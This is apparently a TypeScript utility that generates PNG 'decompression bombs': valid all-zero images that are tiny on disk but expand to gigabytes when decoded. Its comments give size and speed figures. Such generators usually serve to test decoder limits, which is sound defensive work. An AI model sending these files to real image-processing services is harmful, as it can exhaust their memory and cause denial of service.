import { once } from 'node:events';
import { constants, createDeflate, crc32 } from 'node:zlib';

const SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** One PNG chunk: length, type, data, and the CRC of type and data. */
function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(data, crc32(head.subarray(4))), 0);
  return Buffer.concat([head, data, crc]);
}

/**
 * A valid PNG of width × height pixels, all zero: a "decompression bomb", small on disk and huge once decoded.
 * The image data goes through a streaming deflate one row at a time (filter byte 0 and the row's bytes, the same
 * zero buffer every time), so the raw image is never held in memory. Deflate's best ratio is about 1,030:1:
 * 16000 × 16000 8-bit grey (256 MB raw) comes out near 250 KB, 16383 × 16383 16-bit RGBA (2.1 GB raw) near 2 MB.
 * `channels` 1 is greyscale (colour type 0), 4 is RGBA (colour type 6).
 */
export async function pngBomb(
  width: number,
  height: number,
  opts: { bitDepth: 8 | 16; channels: 1 | 4 } = { bitDepth: 8, channels: 1 },
): Promise<Buffer> {
  if (
    !Number.isInteger(width) ||
    !Number.isInteger(height) ||
    width < 1 ||
    height < 1 ||
    width > 2 ** 31 - 1 ||
    height > 2 ** 31 - 1
  ) {
    throw new RangeError(`pngBomb: bad size ${width} × ${height}`);
  }
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = opts.bitDepth;
  ihdr[9] = opts.channels === 1 ? 0 : 6;
  ihdr[10] = 0; // deflate
  ihdr[11] = 0; // adaptive filtering (every row uses filter 0, None)
  ihdr[12] = 0; // not interlaced

  const row = Buffer.alloc(1 + width * opts.channels * (opts.bitDepth / 8));
  // Z_RLE finds the same 258-byte runs in zeros as the default strategy (the same size out) about 4.5 times as
  // fast: 16383 × 16383 16-bit RGBA takes about 2 s instead of 9 s here.
  const deflate = createDeflate({ level: 9, strategy: constants.Z_RLE });
  const out: Buffer[] = [];
  deflate.on('data', (b: Buffer) => out.push(b));
  const ended = once(deflate, 'end');
  ended.catch(() => undefined); // a deflate error is thrown by the wait for 'drain' or by the await below
  for (let y = 0; y < height; y++) {
    if (!deflate.write(row)) await once(deflate, 'drain');
  }
  deflate.end();
  await ended;

  return Buffer.concat([
    SIGNATURE,
    chunk('IHDR', ihdr),
    chunk('IDAT', Buffer.concat(out)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
